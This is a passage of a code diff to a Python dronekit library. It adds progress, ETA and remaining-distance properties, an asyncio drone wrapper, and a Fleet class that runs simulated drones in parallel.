+    def start_mission(self, optimize=False, simplify=None):
+        """
+        Make drone start mission/path following
+        Raise ValueError, before any upload, if the flight enters a `geofence` zone
+        :param optimize: Reorder waypoints to shorten the path before upload
+        :param simplify: Tolerance in metres to simplify the path before upload (see `simplify_mission`)
+        """
+        self._prepare_mission(optimize, simplify)
+        print(" Uploading mission...")
+        self.upload_mission()
+        print("Starting mission")
+        self._begin_mission()
+        # Wait for the autopilot to run the mission (at most 5s)
+        self.wait_until(lambda: self.vehicle.mode.name == "AUTO" and self.vehicle.commands.next > 0, 5)
 
     def land(self):
         """
@@ -275,16 +2661,26 @@ class Drone:
         """
         Make drone disable
         """
+        if self.supervisor is not None: self.supervisor.stop()
+        # Pooled vehicles must not keep feeding this drone's measures
+        self.instrument(False)
+        self.events.close()
+        self.tracker.close()
+        if self._pool is not None:
+            # Simulator is landed and reset by the pool, then used by a next drone
+            self._pool.release(self._port, self.sitl, self.vehicle)
+            return
         self.vehicle.armed = False
         self.vehicle.close()
+        if self.sitl: self.sitl.stop()
 
     @property
     def has_finished(self):
         """
-        Return True if drone have finish mission
+        Return True if drone have finish mission (last waypoint, back home, reached)
         :return: Boolean
         """
-        return self.vehicle.commands.next == self.vehicle.commands.count
+        return self.tracker.finished
 
     @property
     def is_returning(self):
@@ -292,7 +2688,7 @@ class Drone:
         Return True if drone is returning to home
         :return: Boolean
         """
-        return self.vehicle.commands.next >= self.vehicle.commands.count-1
+        return self.tracker.finished or 0 < self.tracker.count <= self.tracker.current
 
     @property
     def location(self):
@@ -308,8 +2704,8 @@ class Drone:
         """
         Gets distance in metres to home.
         """
-        dist_to_point = self._get_distance_metres(self.vehicle.location.global_frame, dk.LocationGlobalRelative(*self.start))
-        return dist_to_point
+        pos = self.vehicle.location.global_frame
+        return float(_geo_distance(pos.lat, pos.lon, *self.start))
 
     @property
     def waypoint_distance(self):
@@ -321,20 +2717,319 @@ class Drone:
         next_waypoint = self.vehicle.commands.next
         if next_waypoint == 0:
             return 0
-        mission_item = self.vehicle.commands[next_waypoint - 1]  # commands are zero indexed
-        target_waypoint_loc = dk.LocationGlobalRelative(mission_item.x, mission_item.y, mission_item.z)
-        dist_to_point = self._get_distance_metres(self.vehicle.location.global_frame, target_waypoint_loc)
-        return dist_to_point
+        if self.legs is not None and next_waypoint <= len(self.legs):
+            lat, lon = self.legs.positions[next_waypoint - 1]
+        else:
+            mission_item = self.vehicle.commands[next_waypoint - 1]  # commands are zero indexed
+            lat, lon = mission_item.x, mission_item.y
+        pos = self.vehicle.location.global_frame
+        return float(_geo_distance(pos.lat, pos.lon, lat, lon))
+
+    @property
+    def remaining_distance(self):
+        """
+        Return distance in metres left to fly: to the current waypoint, then along the next mission legs
+        0 if no mission was uploaded
+        """
+        if self.legs is None:
+            return 0.
+        next_waypoint = self.vehicle.commands.next
+        if next_waypoint == 0:
+            return self.legs.total
+        return self.legs.remaining(next_waypoint - 1, self.waypoint_distance)
+
+    @property
+    def progress(self):
+        """
+        Return mission progress, from 0 (start) to 1 (finished), by distance flown
+        """
+        if self.tracker.finished:
+            return 1.
+        if self.legs is None or not self.legs.total:
+            return 0.
+        return max(0., 1 - self.remaining_distance / self.legs.total)
+
+    @property
+    def eta(self):
+        """
+        Return estimated time in seconds to finish the mission at current ground speed
+        None if the drone is not moving
+        """
+        speed = self.vehicle.groundspeed or 0
+        if speed < .5:
+            return None
+        return self.remaining_distance / speed
 
     @staticmethod
     def _get_distance_metres(loc1, loc2):
         """
         Returns the ground distance in metres between two LocationGlobal objects.
+        Computed with `DISTANCE_MODE`, use `distances` or `distance_matrix` for many points at once.
+        """
+        return float(_geo_distance(loc1.lat, loc1.lon, loc2.lat, loc2.lon))
+
+
+# Asyncio drone
+class AsyncDrone:
+    """
+    Asyncio counterpart of `Drone`
+    Dronekit callbacks (vehicle thread) are forwarded to the event loop, so waiting never blocks it
+    and many drones can be supervised from one process.
+    Attributes not defined here (location, home_distance, create_mission, add_waypoint, ...) are the `Drone` ones.
+    """
+    def __init__(self, drone, loop=None):
+        """
+        Wrap an already connected drone, must be called from the event loop
+        :param drone: Connected `Drone`
+        :param loop: Event loop (running one if not specified)
+        """
+        self.drone = drone
+        self._loop = loop or asyncio.get_running_loop()
+        self._changed = asyncio.Event()
+        self._wake_pending = False
+        self._lock = threading.Lock()
+        # Vehicle updates and mission progress, still received after a reconnection
+        self.drone.events.on(self._notify)
+
+    @classmethod
+    async def connect(cls, lat, lng, ip, port=5760):
+        """
+        Create a new drone vehicle without blocking the event loop
+        Same parameters as `Drone`
+        :return: AsyncDrone
+        """
+        loop = asyncio.get_running_loop()
+        drone = await loop.run_in_executor(None, Drone, lat, lng, ip, port)
+        return cls(drone, loop)
+
+    def __getattr__(self, item):
+        return getattr(self.drone, item)
 
-        This method is an approximation, and will not be accurate over large distances and close to the
-        earth's poles. It comes from the ArduPilot test code:
-        https://github.com/diydrones/ardupilot/blob/master/Tools/autotest/common.py
+    def _notify(self, *_):
+        """
+        Dronekit callback (vehicle thread), schedule a wake up in the event loop
+        Updates arriving before the loop handled the previous one are merged
+        """
+        with self._lock:
+            if self._wake_pending:
+                return
+            self._wake_pending = True
+        self._loop.call_soon_threadsafe(self._wake)
+
+    def _wake(self):
+        """
+        Wake every coroutine waiting for an update (event loop)
+        """
+        with self._lock:
+            self._wake_pending = False
+        changed, self._changed = self._changed, asyncio.Event()
+        changed.set()
+
+    async def next_update(self):
+        """
+        Wait for the next vehicle update
+        """
+        await self._changed.wait()
+
+    async def wait_until(self, predicate, timeout=None):
+        """
+        Wait until `predicate()` is True, evaluated on each vehicle update
+        :param predicate: Function without arguments
+        :param timeout: Maximum waiting time in seconds (None to wait forever)
+        :return: True if predicate is satisfied, False if timeout expired
+        """
+        async def wait():
+            while not predicate():
+                await self.next_update()
+        try:
+            await asyncio.wait_for(wait(), timeout)
+            return True
+        except asyncio.TimeoutError:
+            return False
+
+    async def arm_and_takeoff(self, alt=-1):
+        """
+        Arms vehicle and fly to `altitude`.
+        """
+        if alt == -1: alt = self.drone.default_alt
+        self.drone.default_alt = alt
+        await self.wait_until(lambda: self.vehicle.is_armable)
+        self.vehicle.mode = dk.VehicleMode("GUIDED")
+        self.vehicle.armed = True
+        await self.wait_until(lambda: self.vehicle.armed)
+        self.vehicle.simple_takeoff(alt)
+        await self.wait_until(lambda: (self.vehicle.location.global_relative_frame.alt or 0) >= alt * 0.95)
+
+    async def start_mission(self, optimize=False, simplify=None):
+        """
+        Make drone start mission/path following, upload runs in a worker thread
+        :param optimize: Reorder waypoints to shorten the path before upload
+        :param simplify: Tolerance in metres to simplify the path before upload
+        """
+        self.drone._prepare_mission(optimize, simplify)
+        await self._loop.run_in_executor(None, self.drone.upload_mission)
+        self.drone._begin_mission()
+        await self.wait_until(lambda: self.vehicle.mode.name == "AUTO" and self.vehicle.commands.next > 0, 5)
+
+    async def land(self, timeout=None):
+        """
+        Make drone go back home and land, wait until altitude is 0
+        :param timeout: Maximum waiting time in seconds (None to wait forever)
+        :return: True if landed, False if timeout expired
+        """
+        self.drone.land()
+        return await self.wait_until(lambda: self.drone.location[2] <= .1, timeout)
+
+    async def telemetry(self, interval=1):
+        """
+        Iterate over telemetry samples, a new one after each vehicle update but at most one every `interval` seconds
+        :param interval: Minimum time in seconds between two samples
+        :return: Async iterator of {time, location, mode, armed, waypoint, waypoint_distance, home_distance}
+        """
+        while True:
+            yield {
+                "time": time.time(),
+                "location": self.drone.location,
+                "mode": self.vehicle.mode.name,
+                "armed": self.vehicle.armed,
+                "waypoint": self.vehicle.commands.next,
+                "waypoint_distance": self.drone.waypoint_distance,
+                "home_distance": self.drone.home_distance
+            }
+            start = self._loop.time()
+            await self.next_update()
+            await asyncio.sleep(max(0, interval - (self._loop.time() - start)))
+
+    async def stop(self):
+        """
+        Make drone disable
+        """
+        self.drone.events.off(self._notify)
+        await self._loop.run_in_executor(None, self.drone.stop)
+
+
+# Fleet
+class Fleet:
+    """
+    Group of simulated drones, each one on its own simulator instance and port
+    Drones are connected and driven in parallel
+    """
+    def __init__(self, homes, ip="127.0.0.1", base_port=5760, workers=None, sitl_pool=None):
+        """
+        Start and connect one drone per home location
+        :param homes: Starting points as a list<[lat, lng]>
+        :param ip: Drones IP
+        :param base_port: First drone port, next ones are spaced by 10 (simulator instances)
+        :param workers: Maximum parallel operations (one per drone if not specified)
+        :param sitl_pool: SITLPool to take simulators from (ip and base_port are ignored)
+        """
+        self._pool = futures.ThreadPoolExecutor(max_workers=workers or max(len(homes), 1))
+        ports = [base_port + 10 * i for i in range(len(homes))]
+        started = time.monotonic()
+        pending = [self._pool.submit(Drone, lat, lng, ip, port, pool=sitl_pool) for (lat, lng), port in zip(homes, ports)]
+        self.drones = []
+        errors = []
+        for port, future in zip(ports, pending):
+            try:
+                self.drones.append(future.result())
+            except Exception as e:
+                errors.append((port, e))
+        self.startup_time = time.monotonic() - started
+        if errors:
+            self.close()
+            raise ConnectionError(f"{len(errors)} drone(s) n'ont pas pu être connectés : " + ", ".join(f"{port} ({e})" for port, e in errors))
+        print(f"Flotte de {len(self.drones)} drones connectée en {self.startup_time:.1f}s")
+
+    def __len__(self):
+        return len(self.drones)
+
+    def __iter__(self):
+        return iter(self.drones)
+
+    def __getitem__(self, item):
+        return self.drones[item]
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *_):
+        self.close()
+
+    def map(self, function, *args):
+        """
+        Call `function(drone, *drone_args)` on every drone in parallel
+        :param function: Function taking a drone as first argument
+        :param args: Per drone arguments, one list per argument
+        :return: Results in drones order
+        """
+        return list(self._pool.map(function, self.drones, *args))
+
+    def broadcast(self, method, *args, **kwargs):
+        """
+        Call the same `Drone` method on every drone in parallel
+        :param method: Method name (ex: "arm_and_takeoff")
+        :return: Results in drones order
+        """
+        return self.map(lambda drone: getattr(drone, method)(*args, **kwargs))
+
+    def dispatch(self, missions, alt=-1, optimize=False):
+        """
+        Take off and start one mission per drone, in parallel
+        :param missions: Waypoints of each drone as a list<list<[lat, lon, ?alt]>>, one per drone
+        :param alt: Takeoff altitude
+        :param optimize: Reorder waypoints to shorten paths
+        """
+        def run(drone, waypoints):
+            drone.arm_and_takeoff(alt)
+            drone.create_mission()
+            drone.add_waypoints(waypoints)
+            drone.start_mission(optimize)
+        self.map(run, missions)
+
+    @property
+    def status(self):
+        """
+        Return every drone state
+        :return: list<{port, armed, mode, location, waypoint, finished}>
+        """
+        return [{
+            "port": drone._port,
+            "armed": drone.is_armed,
+            "mode": drone.vehicle.mode.name,
+            "location": drone.location,
+            "waypoint": drone.vehicle.commands.next,
+            "finished": drone.has_finished
+        } for drone in self.drones]
+
+    @property
+    def summary(self):
+        """
+        Return aggregated fleet state
+        :return: {drones, armed, finished, modes: {mode: count}}
+        """
+        status = self.status
+        modes = {}
+        for state in status:
+            modes[state["mode"]] = modes.get(state["mode"], 0) + 1
+        return {
+            "drones": len(status),
+            "armed": sum(state["armed"] for state in status),
+            "finished": sum(state["finished"] for state in status),
+            "modes": modes
+        }
+
+    def wait_until_finished(self, timeout=None):
+        """
+        Block until every drone has finished its mission
+        :param timeout: Maximum waiting time in seconds for each drone (None to wait forever)
+        :return: True if every drone finished, False if timeout expired
+        """
+        return all(self.map(lambda drone: drone.wait_until(lambda: drone.has_finished, timeout)))
+
+    def close(self):
+        """
+        Disable every drone and stop simulators
         """
-        dlat = loc2.lat - loc1.lat
-        dlong = loc2.lon - loc1.lon
-        return math.sqrt((dlat * dlat) + (dlong * dlong)) * 1.113195e5
+        self.map(Drone.stop)
+        self.drones = []
+        self._pool.shutdown()